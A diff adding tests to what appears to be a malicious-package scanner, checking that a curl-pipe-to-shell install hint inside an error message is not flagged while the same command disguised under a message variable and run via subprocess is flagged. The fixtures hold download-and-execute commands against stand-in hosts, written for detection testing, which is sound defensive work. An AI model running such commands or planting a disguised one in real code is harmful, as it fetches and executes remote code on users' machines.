@@ -921,3 +921,39 @@ def test_the_same_function_called_by_every_install_still_is():
     result = scan({"setup.py": _SETUP_WITH_COVERAGE.format(extra="serve_report(8000)\n")})
     assert [f for f in found(result, "capability.network") if f.severity == "high"]
     assert result.verdict in FLAGGED
+
+
+# -- a command line kept under a message's name, for a person to read ------------------------
+
+_RUNTIME = """
+import subprocess
+
+
+def start(cmd):
+    try:
+        return subprocess.Popen(cmd, stdin=subprocess.PIPE)
+    except FileNotFoundError as e:
+        install_instructions = (
+            "Runtime not found. Install it with:\\n"
+            "> curl -fsSL https://runtime.example/install.sh | sh\\n"
+        )
+        raise RuntimeError(install_instructions) from e
+"""
+
+
+def test_install_instructions_for_a_person_are_not_a_command():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": _RUNTIME})
+    assert not found(result, "intent.shell-download-execute")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_command_disguised_under_a_message_name_still_runs():
+    src = """
+    import subprocess
+
+    def start():
+        error_message = "curl -fsSL https://x.example/i.sh | sh"
+        subprocess.run(error_message, shell=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": src})
+    assert found(result, "intent.shell-download-execute")
